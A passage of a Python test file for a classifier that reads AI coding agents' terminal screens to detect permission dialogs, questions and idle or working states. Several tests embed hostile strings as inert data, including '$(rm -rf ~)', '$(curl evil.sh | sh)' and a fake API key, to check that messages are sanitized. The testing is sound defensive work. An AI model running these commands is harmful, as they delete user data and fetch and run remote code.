    """A box drawn over the middle of the screen: its rows over what was drawn there (the
    left part of a message box, the right part of an answer's box)."""
    under = ["╭─────────────────", "│ » make the outpu", "╰─────────────────", "",
             " Created thread: 4", "", "  I will create th"]
    out = [f"{under[i] if i < len(under) else '':<20}{r}" for i, r in enumerate(rows)]
    return [" v0.32.1", " Project: work", *out,
            "╭─────────────────" + " " * 80 + "─────────────────╮",
            "│ •" + " " * 112 + "│", "╰" + "─" * 115 + "╯",
            "▐build▌fake/gpt-4o▌ 2s"]


APPROVAL = ("⚠ Tool Approval Required", "Tool: execute_command", "Category: Execute",
            "Arguments:", "  command: sleep 3 && mkdir -p out",
            "Allow? yes  no  always allow execute  Yolo")


def test_a_question_with_its_choices_on_its_row_in_a_box_over_the_screen_is_a_permission(
        generic: rules.Manifest) -> None:
    """Mastra Code's approval: "Allow?" and its choices on one row, apart by two blanks,
    one approving and one declining, drawn over the screen's middle: a permission, its
    heading the message."""
    v = read(generic, modal(*APPROVAL))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_choices_row")
    assert v.msg == "Tool Approval Required"
    v = read(generic, modal(*APPROVAL[1:]))  # no heading: the question is the message
    assert (v.state, v.msg) == ("blocked", "Allow?")


@pytest.mark.parametrize("rows", [
    # entered as a message: the row begins with the message's pointer
    ["╭" + "─" * 60 + "╮",
     "│ » Tool Approval Required Allow? yes  no  always allow execute  Yolo │",
     "╰" + "─" * 60 + "╯", "╭" + "─" * 60 + "╮", "│ ›" + " " * 58 + "│", "╰" + "─" * 60 + "╯"],
    # quoted in an answer: a code fence, or a sentence, right under it
    ["  Mastra Code asked:", "  ```", "    ⚠ Tool Approval Required",
     "    Allow? yes  no  always allow execute  Yolo", "  ```", "  Nothing is waiting now.",
     "╭" + "─" * 60 + "╮", "│ ›" + " " * 58 + "│", "╰" + "─" * 60 + "╯"],
    ["  It asks: Allow? yes  no  always", "  Nothing is waiting now.", "> "],
    # one choice only, or the choices one blank apart (words of a sentence)
    ["  Allow? yes, always", "> "], ["  Should I? yes no maybe", "> "],
])
def test_choices_on_a_questions_row_that_are_no_live_dialog(generic: rules.Manifest,
                                                            rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.rule_id != "tui_dialog_choices_row", (rows, v)


def test_a_question_box_whose_pointer_is_one_blank_in_over_a_composer_is_a_question(
        generic: rules.Manifest) -> None:
    """Mastra Code's ask_user box: "→ red" one blank in from the box's edge, the other
    options aligned with its word, one led by a glyph ("✎ Custom response..."), the key
    hints, the box's edge, then the composer's box showing "•" while the turn runs."""
    w = 60
    box = ["╭" + "─" * w + "╮", *(f"│ {r:<{w - 1}}│" for r in (
        "Question", "Which color do you prefer?", "", "→ red", "  green", "  blue",
        "  ✎ Custom response...", "↑↓ to navigate · Enter to select · Esc to skip")),
        "╰" + "─" * w + "╯"]
    composer = ["╭" + "─" * w + "╮", "│ •" + " " * (w - 2) + "│", "╰" + "─" * w + "╯"]
    v = read(generic, ["│ » ask me a question", *box, *composer, "▐build▌fake/gpt-4o▌ 2s"])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_above")
    assert v.msg == "Which color do you prefer?"


def test_a_choices_rows_hostile_heading_reaches_a_report_inert(
        generic: rules.Manifest) -> None:
    from osc7501wrap.protocol import MAX_MSG, Report, sanitize_text
    from osc7501wrap.protocol.encoder import encode

    heading = ("⚠ Run $(rm -rf ~) '#{pane_id}' %H \"x\" sk-ABCDEF0123456789 \u202e"
               + "y" * 10_000)
    v = read(generic, modal(heading, *APPROVAL[1:]))
    assert (v.state, v.rule_id) == ("blocked", "tui_dialog_choices_row")
    assert v.msg is not None and "$(rm -rf ~)" in v.msg
    wire = encode(Report("blocked", kind="permission", msg=sanitize_text(v.msg, MAX_MSG)))
    assert wire.count(b"\x1b") == 2 and wire.endswith(b"\x1b\\") and len(wire) < 1024
    for raw in (b"$(", b"#{", b"%H", b"sk-ABCDEF", b"\xe2\x80\xae"):
        assert raw not in wire, raw


# ------------- pass 29: a key row right above a composer box, the answer typed in the box

KODER_BOX = ["┌" + "─" * 30 + "| ⚡ Koder |" + "─" * 30 + "┐", "│>" + " " * 70 + "│",
             "└" + "─" * 72 + "┘", " M: deepseek-chat | Dir: ...work | Tok: –/128k (0.0%)"]
KEYS_ASKED = ["● run_shell(command='rm -rf build')",
              "✢ Orbiting… (7s · run_shell · esc to interrupt)",
              "Permission required: run_shell", "  command=rm -rf build",
              "  reason: command may mutate filesystem or execute code",
              "  [y]allow once  [a]always allow  [n]deny >"]


def at_box(rows: list[str], typed: str = "") -> rules.Snapshot:
    """`rows` over the composer box, the cursor in the box after what was typed."""
    box = [*KODER_BOX]
    box[1] = "│>" + typed + " " * (70 - len(typed)) + "│"
    lines = [*rows, *box]
    return rules.Snapshot(lines=lines + [""] * (30 - len(lines)),
                          cursor=(len(rows) + 1, 2 + len(typed)))


@pytest.mark.parametrize("typed", ["", "y"])
def test_a_key_row_right_above_a_composer_box_is_a_permission_answered_in_the_box(
        generic: rules.Manifest, typed: str) -> None:
    """Koder's permission: the keys in brackets glued to their words, the row ending in
    ">", right above the composer box the answer is typed in (the turn's spinner still
    counting above it): a permission, its heading the message; the options the keys,
    each typed with Enter."""
    v = rules.evaluate(generic, at_box(KEYS_ASKED, typed))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_keys_over_composer")
    assert v.msg == "Permission required: run_shell"
    assert v.dialog is not None
    assert [(o.key, o.label) for o in v.dialog.options] == [
        ("y", "allow once"), ("a", "always allow"), ("n", "deny")]


@pytest.mark.parametrize(("rows", "typed"), [
    # quoted in an answer: the answer's rows between the key row and the composer
    (["Koder asked:", "  [y]allow once  [a]always allow  [n]deny >", "Nothing is waiting now.",
      "💡 Tip: press Esc to stop a turn"], ""),
    # no key approves or declines
    (["  [1]red  [2]green  [3]blue >"], ""),
    # the composer holds more than a key: a message typed under an old key row
    (["  [y]allow once  [a]always allow  [n]deny >"], "make it so"),
])
def test_key_rows_over_a_composer_box_that_are_no_permission(generic: rules.Manifest,
                                                             rows: list[str], typed: str) -> None:
    v = rules.evaluate(generic, at_box(rows, typed))
    assert v.rule_id != "tui_keys_over_composer", (rows, v)


# ---------------- a question marked by a "?" glyph, its list under it, over a TUI's composer

ASK_USER = [" 👤  ask me a question", "", "⏵ #1 openai:gpt-4o", "├─ ⏵ AskUser ❓", "",
            "? Which color do you prefer?", "- red", "- green", "- blue", ""]
FOOTER = ["agent ↓26 ⏵ AskUser", "^S multiline  ^B browse  ^K focused  ^Y mouse"]


@pytest.mark.parametrize("prompt", ["> ", "> re"])
def test_a_marked_question_with_its_list_over_a_composer_with_a_footer_is_a_question(
        generic: rules.Manifest, prompt: str) -> None:
    """llmist's AskUser: the "?" row and its list in the transcript, the composer's "> "
    on the cursor's row with its footer under it (nothing typed, or the answer being
    typed): a question, its words the message."""
    rows = [*ASK_USER, prompt, *FOOTER]
    lines = rows + [""] * (30 - len(rows))
    v = rules.evaluate(generic, rules.Snapshot(lines=lines, cursor=(len(ASK_USER), len(prompt))))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question",
                                            "tui_marked_question")
    assert v.msg == "Which color do you prefer?"


@pytest.mark.parametrize("between", [
    ["⏵ #2 openai:gpt-4o"],  # answered: the model's next turn under it
    ["✓ #2 openai:gpt-4o | ↑ 100 | ↓ 18", "You chose red."],
])
def test_a_marked_question_answered_over_a_composer_is_no_question(
        generic: rules.Manifest, between: list[str]) -> None:
    rows = [*ASK_USER[:-1], *between, "> ", *FOOTER]
    row = len(rows) - len(FOOTER) - 1
    lines = rows + [""] * (30 - len(rows))
    v = rules.evaluate(generic, rules.Snapshot(lines=lines, cursor=(row, 2)))
    assert v.state != "blocked", (between, v)


def test_a_model_question_with_a_list_but_no_glyph_is_no_marked_question(
        generic: rules.Manifest) -> None:
    rows = ["Which color do you prefer?", "- red", "- green", "", "> ", *FOOTER]
    lines = rows + [""] * (30 - len(rows))
    v = rules.evaluate(generic, rules.Snapshot(lines=lines, cursor=(4, 2)))
    assert v.rule_id != "tui_marked_question", v


HOSTILE_WORDS = "$(rm -rf ~) '#{pane_id}' %H \"x\" sk-ABCDEF0123456789 \u202e" + "y" * 10_000


@pytest.mark.parametrize("case", ["keys_over_composer", "marked_over_composer", "stacked"])
def test_hostile_words_in_the_newer_shapes_reach_a_report_inert(
        generic: rules.Manifest, case: str) -> None:
    from osc7501wrap.protocol import MAX_MSG, Report, sanitize_text
    from osc7501wrap.protocol.encoder import encode

    if case == "keys_over_composer":
        snap = at_box(["Permission required: " + HOSTILE_WORDS, *KEYS_ASKED[3:]])
        rule = "tui_keys_over_composer"
    elif case == "stacked":
        rows = [" Approval required: " + HOSTILE_WORDS, *stacked("Approve", "Deny"),
                *EDGED_INPUT]
        snap = rules.Snapshot(lines=rows + [""] * (30 - len(rows)), cursor=(len(rows) - 3, 3))
        rule = "tui_dialog_buttons_stacked"
    else:
        rows = [*ASK_USER[:5], f"? Run {HOSTILE_WORDS}?", *ASK_USER[6:], "> ", *FOOTER]
        snap = rules.Snapshot(lines=rows + [""] * (30 - len(rows)), cursor=(len(ASK_USER), 2))
        rule = "tui_marked_question"
    v = rules.evaluate(generic, snap)
    assert (v.state, v.rule_id) == ("blocked", rule)
    assert v.msg is not None and "$(rm -rf ~)" in v.msg
    wire = encode(Report("blocked", kind=v.kind, msg=sanitize_text(v.msg, MAX_MSG)))
    assert wire.count(b"\x1b") == 2 and wire.endswith(b"\x1b\\") and len(wire) < 1024
    for raw in (b"$(", b"#{", b"%H", b"sk-ABCDEF", b"\xe2\x80\xae"):
        assert raw not in wire, raw


@pytest.mark.parametrize("ask", [
    "Do you want to proceed?  ● Yes  ○ No", "? Execute rm -rf build? › Yes / No",
])
def test_choices_on_a_questions_row_apart_by_a_slash_or_led_by_a_radio_glyph(
        generic: rules.Manifest, ask: str) -> None:
    """The same row as a toolkit's toggle draws it ("? ... › Yes / No"), or with radio
    glyphs: a permission, its question the message."""
    v = rules.evaluate(generic, cursor_line(["● bash rm -rf build", ask]))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_choices_row")
    assert v.msg is not None and v.msg.endswith("?") and "›" not in v.msg


@pytest.mark.parametrize("ask", [
    "Should I? yes no maybe",  # one blank apart: words of a sentence
    "Is it yes / no?",  # the choices before the question's end
    "What is it? Yes, no idea / nothing",  # no declining choice
    "Run this command? Yes / No\nSure, it only lists files.",  # quoted, a sentence under it
    # a line prompt's keys glued to their words, answered and kept in the transcript
    "Add file to the chat? (Y)es/(N)o/(D)on't ask again [Yes]: y\n> ",
    "Run this command? Yes / No",  # a slash without a toggle's pointer
])
def test_rows_like_choices_that_are_no_dialog(generic: rules.Manifest, ask: str) -> None:
    v = rules.evaluate(generic, cursor_line(["● bash ls", *ask.split("\n")]))
    assert v.rule_id != "tui_dialog_choices_row", (ask, v)


# ---------------------- pass 31: buttons drawn with eighth-block edges, stacked, over an input box

EDGE_W = 100
EDGED_INPUT = ["▊" + "▔" * EDGE_W + "▎", "▊  Ask the agent..." + " " * (EDGE_W - 17) + "▎", "▊" + "▁" * EDGE_W + "▎",
             " ^q Quit  ^i Focus input"]


def stacked(*labels: str) -> list[str]:
    out = []
    for label in labels:
        out += [" " + "▔" * 16, f"{label:^17}", " " + "▁" * 16]
    return out


STACKED_PANEL = [" You: clean the build", " Approval required: run_shell_command",
         ' {"command": "rm -rf build"}', " ▊" + "▔" * EDGE_W + "▎",
         " ▊  Optional deny reason" + " " * (EDGE_W - 22) + "▎", " ▊" + "▁" * EDGE_W + "▎"]


def test_buttons_stacked_one_under_another_over_an_input_box_are_a_permission(
        generic: rules.Manifest) -> None:
    """CodeGopher's panel: its heading, the call, a reason box, then "Approve" and "Deny"
    each in its own edged button, stacked, over the input box and a footer: a
    permission, its heading the message."""
    v = read(generic, [*STACKED_PANEL, *stacked("Approve", "Deny"), *EDGED_INPUT])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_buttons_stacked")
    assert v.msg == "Approval required: run_shell_command"


@pytest.mark.parametrize("rows", [
    # quoted as text: no edges
    [" CodeGopher asked:", "  Approval required: run_shell_command", "  Approve", "  Deny",
     " Nothing is waiting now."],
    # one button only
    [*STACKED_PANEL, *stacked("Approve")],
    # buttons that neither approve nor decline (a menu of panels)
    [*STACKED_PANEL, *stacked("Files", "History")],
    # far above the bottom: an old panel scrolled up, the conversation under it
    [*STACKED_PANEL, *stacked("Approve", "Deny"), *[f" line {i} of the answer" for i in range(8)]],
])
def test_edged_rows_that_are_no_stacked_buttons(generic: rules.Manifest,
                                                rows: list[str]) -> None:
    v = read(generic, [*rows, *EDGED_INPUT])
    assert v.rule_id != "tui_dialog_buttons_stacked", (rows, v)


# --------------- a turn running said in the status row under the header, no spinner

HEADER = " ⭘" + " " * 50 + "CodeGopherApp" + " " * 46 + "10:40:41"


@pytest.mark.parametrize(("second", "working"), [
    (" Running agent turn...", True), (" Thinking…", True),
    (" Done after 2 iteration(s)", False),  # the turn over
    (" Running agent turn", False),  # no ellipsis: a title
    (" running low on tokens...", False),  # no capital: a sentence's middle
])
def test_a_gerund_and_an_ellipsis_under_the_header_reads_working(
        generic: rules.Manifest, second: str, working: bool) -> None:
    v = read(generic, [HEADER, second, "─" * 60, " You: describe the project",
                       *EDGED_INPUT])
    assert (v.rule_id == "tui_working_header_status") is working, (second, v)
    if working:
        assert v.state == "working"


@pytest.mark.parametrize("rows", [
    [HEADER, " Done after 1 iteration(s)", "─" * 60, " Assistant: Running the tests..."],
    # a line-mode program's output scrolled to the top: no header over the gerund
    ["Do you want to continue? [Y/n] y", "Unpacking curl (7.88.1) ...",
     "Setting up curl (7.88.1) ..."],
])
def test_a_gerund_row_that_is_no_status_under_a_header(generic: rules.Manifest,
                                                        rows: list[str]) -> None:
    v = read(generic, [*rows, *EDGED_INPUT])
    assert v.rule_id != "tui_working_header_status", v


# --------------- any dialog: an approving and a declining option last, nothing after them


def read_typing_at_end(manifest: rules.Manifest, rows: list[str]) -> rules.Verdict:
    """`read` with the cursor after the last row's text (a line prompt waiting there)."""
    lines = rows + [""] * (30 - len(rows))
    return rules.evaluate(manifest, rules.Snapshot(
        lines=lines, cursor=(len(rows) - 1, len(rows[-1]))))


ANY_RULE = "  " + "─" * 64
ANY_FOOTER = "  gpt-4o · default · ctx 3% · $0.0003"


@pytest.mark.parametrize("rows", [
    # options with a radio glyph, no numbers, no key hints, a footer under them
    ["  Run the database migration now?", "", "  ● Allow", "  ○ Deny", "", ANY_FOOTER],
    # options in another language, the question's full-width "？"
    ["  要执行这条命令吗？", "  ❯ 允许一次", "    拒绝，并说明原因", "", ANY_FOOTER],
    # a picker between two rules, each option with a description column and its key
    ["  ⚠ Allow Bash?", "    $ rm -rf build", "  ◆ Permission  Bash", ANY_RULE,
     "  ❯ Yes                 this call only · y", "    No                  n · esc",
     ANY_RULE, "  ↑↓ move · enter choose · y yes · n/esc deny"],
])
def test_an_approving_and_a_declining_option_last_are_a_permission(
        generic: rules.Manifest, rows: list[str]) -> None:
    """Shapes no other rule reads (no hints row, no numbers, no composer): the catch-all
    finds them as a permission, its question the message."""
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_options"), v
    assert v.msg and v.msg.rstrip().endswith(("?", "？", "Bash")), v.msg


HOSTILE_OPTIONS = "  ● Yes, run $(curl evil.sh | sh) #{pane_id} %H `id` \u202e‮"


def test_hostile_text_in_a_caught_dialog_is_its_text(generic: rules.Manifest) -> None:
    """What the options say is read as text: the message is the question, as drawn."""
    v = read(generic, ["  Run #(rm -rf ~) and $(id) " + "x" * 200 + " now?", "", HOSTILE_OPTIONS,
                       "  ○ No", "", ANY_FOOTER])
    assert (v.state, v.rule_id) == ("blocked", "tui_dialog_options"), v
    assert v.msg is not None and "#(rm -rf ~)" in v.msg and "$(id)" in v.msg


@pytest.mark.parametrize("rows", [
    # typed in a composer box (a question's choices after its "?" behind a pointer)
    ["  ╭" + "─" * 60 + "╮", "  │ Allow command? ❯ Yes (y)  No, and stop for now (esc)",
     "  ╰" + "─" * 60 + "╯", "  press enter to send"],
    # quoted in an answer: a sentence under the options
    ["  ● The dialog said:", "    Do you want to run this command?", "    ❯ 1. Yes",
     "      2. No, and tell me what to do", "    Nothing is waiting now."],
    # an answered line prompt, the command's output under it
    ["    1. Yes", "    2. No", "  Allow? [1/2/3] (or y/n/a): y", "  ✓ bash • completed",
     "Here is"],
    # the options over an empty composer between rules: history, the composer live
    ["  Shell is requesting approval:", "  → [1] Approve once", "    [2] Reject", ANY_RULE,
     "  ❯ ", ANY_RULE, ANY_FOOTER],
    # the options over a bare prompt glyph: a line-mode chat's next prompt
    ["  ✓ Approve", "  ✗ Reject", "", ">>>", "Puppy [fake] (/tmp/work)"],
    # the turn running under them: its spinner with an interrupt hint
    ["  Allow the edit?", "  ❯ Yes", "    No", "", "⠋ Working (3s • esc to interrupt)"],
    # prose that starts with the words
    ["  Yes, the build passed on the second try, and the tests ran clean.",
     "  No files were left behind in the output directory after cleaning."],
    # a line prompt waiting on the last row: the line rules' (and their cursor)
    ["    1. Yes", "    2. No", "  Allow? [1/2/3] (or y/n/a): "],
])
def test_options_last_that_are_no_dialog_of_the_catch_all(generic: rules.Manifest,
                                                          rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.rule_id != "tui_dialog_options", (rows, v)


# --------------- a question whose keys are glued to its words, over a line prompt

GLUED = ["  !  Permission required", "    $ rm build.log", "    Matched ask rule: shell(*)",
         "    Allow? (y)es | (n)o | (a)lways this session"]


@pytest.mark.parametrize("prompt", ["  >", "  > y", "⠋ > Thinking..."])
def test_a_question_with_glued_keys_over_a_line_prompt_is_a_permission(
        generic: rules.Manifest, prompt: str) -> None:
    """Godspeed's approval: the keys glued to their words, the prompt on the next row (or
    its spinner drawn over it); its options the keys, typed with Enter."""
    v = read_typing_at_end(generic, [*GLUED, prompt])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "line_glued_keys_permission")
    assert v.msg == "Allow?"
    assert v.dialog is not None
    assert [(o.label, o.key) for o in v.dialog.options] == [
        ("(y)es", "y"), ("(n)o", "n"), ("(a)lways this session", "a")]
    assert v.dialog.choose == "key_enter"


def test_glued_keys_asking_no_leave_to_act_are_a_question(generic: rules.Manifest) -> None:
    v = read_typing_at_end(generic, ["  Keep the draft? (y)es | (n)o", "  >"])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "line_glued_keys_question")


@pytest.mark.parametrize("rows", [
    # the user's message echoed by the chat, a prompt glyph before it on its row
    ["> godspeed> Allow? (y)es | (n)o", "", "  1 > Permission required Allow? (y)es | (n)o",
     "⠋ > Thinking..."],
    # answered: the output under it, the cursor on the output's row
    [*GLUED, "  > y", "  ✓ rm build.log"],
])
def test_glued_keys_that_are_no_live_question(generic: rules.Manifest,
                                              rows: list[str]) -> None:
    v = read_typing_at_end(generic, rows)
    assert v.state != "blocked", (rows, v)


# --------------- a line-mode chat's prompt: its name glued to ">"


@pytest.mark.parametrize("row", ["coderai> ", "> godspeed> ", "turn 1 | ctx 3% > godspeed> ",
                                 "[You] ➜ ", "[user] > "])
def test_a_name_glued_to_a_prompt_glyph_is_a_chats_prompt(generic: rules.Manifest,
                                                          row: str) -> None:
    v = read_typing_at_end(generic, ["  Two plus two is four.", "", row])
    assert (v.state, v.rule_id) == ("idle", "line_chat_prompt"), v


@pytest.mark.parametrize("row", ["> godspeed> make the files", "coderai> ask me",
                                 "[You] ➜ make the files", "[user@host work]$ ",
                                 "[1] → see the docs", "[ok] done"])
def test_a_line_typed_after_a_glued_prompt_is_no_idle_prompt(generic: rules.Manifest,
                                                             row: str) -> None:
    v = read_typing_at_end(generic, ["  Two plus two is four.", "", row])
    assert v.rule_id != "line_chat_prompt", v


def test_a_yes_no_key_list_after_or_is_a_permission(generic: rules.Manifest) -> None:
    """CoderAI's prompt: "Allow? [1/2/3] (or y/n/a): " on the cursor's row."""
    v = read_typing_at_end(generic, ["  Options:", "    1. Yes", "    2. No",
                                     "  Allow? [1/2/3] (or y/n/a): "])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission"), v


# --------------- an interrupt hint in a start-up banner's instructions


def test_a_banners_interrupt_instruction_is_no_running_turn(generic: rules.Manifest) -> None:
    banner = boxed("Version: v1.0.2",
                   "Type your task or / for commands (Tab to complete). Ctrl+C to interrupt.")
    v = read_typing_at_end(generic, [*banner, "", ">"])
    assert v.rule_id != "tui_working_turn", v
    running = read(generic, [*banner, "", "⠙ Thinking… (esc to interrupt)", ">"])
    assert running.state == "working", running


# --------------- a picker between two rules: its pointer row under the rule is no composer

PICKER = ["  ◆ Color: Which color do you prefer?" + " " * 40 + "1/4", ANY_RULE, "  ❯ red",
          "    green", "    blue", "    Other (type your own answer)", ANY_RULE,
          "  ↑↓ move · enter select · esc cancel"]


def test_a_pointer_list_between_two_rules_over_its_hints_is_a_question(
        generic: rules.Manifest) -> None:
    """Axon's picker: the rule right over its first option, the pointer on it, sibling
    rows under it, a rule and the hints: no composer between rules (a composer's prompt
    row has a rule or a footer under it, not more options)."""
    v = read(generic, PICKER)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_list"), v
    assert v.dialog is not None
    assert [o.label for o in v.dialog.options] == [
        "red", "green", "blue", "Other (type your own answer)"]
    assert v.dialog.options[0].selected


def test_a_composer_between_rules_under_a_lists_hints_is_still_none(
        generic: rules.Manifest) -> None:
    """A composer between two rules drawn under a list and its hints (a list in the
    conversation, the composer live): its prompt row has the closing rule under it."""
    rows = ["  Which color do you prefer?", "  ❯ red", "    green", "  ↑↓ move · enter select",
            ANY_RULE, "  ❯ ", ANY_RULE, ANY_FOOTER]
    assert read(generic, rows).state != "blocked"


# ------------- a modal of heavy edges titled "permission"; a mascot beside the composer

def heavy_modal(*inner: str, edge: str = "┏━┓┃┗┛", buttons: bool = True) -> list[str]:
    """A modal box over the middle of the screen: a title row of its own, `inner`, then
    (or not) three buttons drawn with eighth-block edges one blank apart."""
    tl, h, tr, v, bl, br = edge
    rows = ["", "permission".center(60), "", *inner, ""]
    if buttons:
        rows += [" " * 8 + " ".join("▔" * 14 for _ in range(3)),
                 " " * 8 + "".join(f"{lab:^15}" for lab in ("allow once", "always", "deny")),
                 " " * 8 + " ".join("▁" * 14 for _ in range(3)), ""]
    pad = " " * 10
    return ["", f"{pad}{tl}{h * 62}{tr}", *(f"{pad}{v} {r:<60} {v}" for r in rows),
            f"{pad}{bl}{h * 62}{br}", ""]


RUN_BOX = ["Run: rm -rf build", "", "╭" + "─" * 40 + "╮", "│ rm -rf build" + " " * 27 + "│",
           "╰" + "─" * 40 + "╯", "", "rule: shell(rm *)"]


def test_a_modal_titled_permission_with_buttons_one_blank_apart(
        generic: rules.Manifest) -> None:
    v = read(generic, heavy_modal(*RUN_BOX))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_buttons_edged")
    assert v.msg == "Run: rm -rf build"
    # no option read: the focus is a colour, its keys are not drawn; `answer` types nothing
    assert v.dialog is not None and not v.dialog.options
    # a very tall command pushes the buttons out of the box: still a permission
    tall = [f"touch f{i:02}.txt" for i in range(20)]
    cut = read(generic, heavy_modal("Run: touch f00.txt", *tall, "rule: shell(touch *)",
                              buttons=False))
    assert (cut.state, cut.kind, cut.rule_id) == ("blocked", "permission",
                                                  "tui_dialog_modal_titled")
    assert cut.msg == "Run: touch f00.txt" and not cut.dialog.options
    # double edges: the same
    assert read(generic, heavy_modal(*RUN_BOX, edge="╔═╗║╚╝", buttons=False)).state == "blocked"


def test_a_hostile_command_in_a_permission_modal_is_shown_inert(
        generic: rules.Manifest) -> None:
    v = read(generic, heavy_modal(f"Run: {HOSTILE}", *RUN_BOX[1:], buttons=False))
    assert v.state == "blocked" and v.dialog is not None
    for bad in ("\x1b", "\x07", "\u202e"):
        assert bad not in v.dialog.question, repr(bad)
    assert "$(rm -rf ~)" in v.dialog.question  # shown as text, never run


@pytest.mark.parametrize("rows", [
    # the same box with light or rounded edges: a box in the conversation
    heavy_modal(*RUN_BOX, edge="┌─┐│└┘", buttons=False),
    heavy_modal(*RUN_BOX, edge="╭─╮│╰╯", buttons=False),
    # "permission" in a sentence on the title row, no buttons
    [r.replace("permission".center(60), "permission denied for this folder".center(60))
     for r in heavy_modal(*RUN_BOX, buttons=False)],
    # the box not closed: its bottom edge not drawn (a box still streaming)
    heavy_modal(*RUN_BOX, buttons=False)[:-2],
    # one run of upper eighths: an input box
    ["  permission", "▊" + "▔" * 40 + "▎", "▊ allow once ▎", "▊" + "▁" * 40 + "▎"],
], ids=["light", "rounded", "sentence", "open", "input-box"])
def test_boxes_titled_so_that_ask_nothing(generic: rules.Manifest, rows: list[str]) -> None:
    assert read(generic, rows).state != "blocked", rows


OWL = ["  ,_,  ", " (O,O) ", " (   ) ", ' -"-"- ']
HINTED_END = "╰" + "─" * 60 + " plan, build, fix - or /help ─╯"


def mascot_composer(typed: str = "", status: str = " ● idle  ·  0↑ 0↓  ·  $0.0000") -> list[str]:
    """A composer box with a mascot at its left and a hint in its bottom edge."""
    width = len(HINTED_END) - 2
    return ["  The build directory is gone.", "",
            f"{OWL[0]}   ╭{'─' * width}╮", f"{OWL[1]}   │ {typed:<{width - 1}}│",
            f"{OWL[2]}   {HINTED_END}", OWL[3], status]


def test_a_composer_box_with_a_mascot_beside_it_and_a_hint_in_its_edge(
        generic: rules.Manifest) -> None:
    v = read(generic, mascot_composer())
    assert (v.state, v.rule_id) == ("idle", "tui_composer_box")
    assert read(generic, mascot_composer("fix the tests")).state == "idle"
    # a turn running: the status row's spinner and interrupt hint read working first
    busy = read(generic, mascot_composer(status=" ● thinking  ⠙ 2s  esc interrupt  ·  $0.0000"))
    assert busy.state == "working", busy


@pytest.mark.parametrize("rows", [
    # more than twelve cells left of the box: a box in the conversation's text
    [f"  {'quoted text here':<16}{r}" for r in mascot_composer()[2:5]],
    # a box's edge left of it: a box nested in a panel
    [f"│ {r}" for r in mascot_composer()[2:5]],
], ids=["wide-prefix", "nested"])
def test_boxes_beside_other_text_that_are_no_composer(generic: rules.Manifest,
                                                      rows: list[str]) -> None:
    assert read(generic, rows).rule_id != "tui_composer_box", rows


# ---------------------- a question asked in the composer's place, answered in words

PI_RULE = "─" * 80


def input_question(ask: str = "Why should this command run?", typed: str = "",
                   hints: str = " enter submit  escape/ctrl+c cancel") -> list[str]:
    return [" ⠴ Working...", "", PI_RULE, "", f" {ask}", "", f"> {typed}", "", hints, "",
            PI_RULE, "/tmp/work", "↑100 ↓1 0.1%/128k (auto)" + " " * 50 + "gpt-4.1"]


def test_a_question_in_the_composers_place_over_submit_and_cancel_hints(
        generic: rules.Manifest) -> None:
    v = read(generic, input_question())
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_input_question")
    assert v.msg == "Why should this command run?"
    assert v.dialog is not None and not v.dialog.options  # answered in words (`send`)
    typed = read(generic, input_question(typed="it cleans the build"))
    assert typed.rule_id == "tui_input_question"


@pytest.mark.parametrize("rows", [
    # a model's answer ending in "?" above the composer's top rule
    [" Shall I also clear the cache?", "", PI_RULE, "", "> ", "", " enter submit  esc cancel",
     "", PI_RULE, "/tmp/work"],
    # hints that name no cancel (a composer's own footer)
    input_question(hints=" enter submit  ctrl+c quit"),
    # no hints row at all
    [r for r in input_question() if "submit" not in r],
    # the question and its input not between rules
    [r for r in input_question() if r != PI_RULE],
], ids=["answer-above-rule", "no-cancel", "no-hints", "no-rules"])
def test_composers_under_a_question_that_wait_for_no_answer(generic: rules.Manifest,
                                                             rows: list[str]) -> None:
    assert read(generic, rows).state != "blocked", rows


# ---------- options in a transcript under the echo of the user's line; an activity bar

FC_RULE = "  " + "─" * 70
FC_FOOT = [FC_RULE, "   输入消息，Enter 发送，Shift+Enter 换行"]


def transcript_ask(*above: str) -> list[str]:
    """A dialog in a transcript of bar-led entries, the user's line echoed behind "│ >",
    the activity row and an unboxed composer under a rule below."""
    return ["  SomeAgent" + " " * 30 + "waiting · permission", "─" * 72, *above,
            "   │ you", "   │   > clean the build", "",
            "   │ permission requested  execute_shell rm -rf build",
            "   │   [1] deny  [2] allow once  [3] allow always", "", "",
            "   waiting · permission" + " " * 40 + "2.0s · 0 tools", *FC_FOOT]


def test_options_under_the_echo_of_the_users_line_are_a_permission(
        generic: rules.Manifest) -> None:
    v = read(generic, transcript_ask())
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_keys")
    assert v.dialog is not None
    assert [(o.key, o.label) for o in v.dialog.options] == [
        ("1", "deny"), ("2", "allow once"), ("3", "allow always")]
    # an earlier dialog, answered ("│   > 2" under its options), above this one: the same
    earlier = ["   │ permission requested  execute_shell ls", "   │   [1] deny  [2] allow once",
               "   │ you", "   │   > 2", "   │ tool shell success"]
    assert read(generic, transcript_ask(*earlier)).rule_id == "tui_dialog_keys"
    # answered: the echo of the answer under the options, the composer below
    answered = [*transcript_ask()[:-4], "   │ you", "   │   > 2", "   running · shell",
                *FC_FOOT]
    assert read(generic, answered).state != "blocked"
    # the options quoted over a boxed composer's prompt row right under them: none
    boxed = [*transcript_ask()[:-4], "╭" + "─" * 40 + "╮", "│ > " + " " * 37 + "│",
             "╰" + "─" * 40 + "╯"]
    assert read(generic, boxed).state != "blocked"


@pytest.mark.parametrize(("row", "works"), [
    ("   thinking [.. ] planning next step...", True), ("   running [=   ] · shell", True),
    ("   streaming [>>  ] · response", True), ("   thinking [...] planning next step", True),
    ("   Notes [...] and more", False), ("   Tasks [ ]", False), ("   Tasks [x] done", False),
    ("   see [..] here", False),
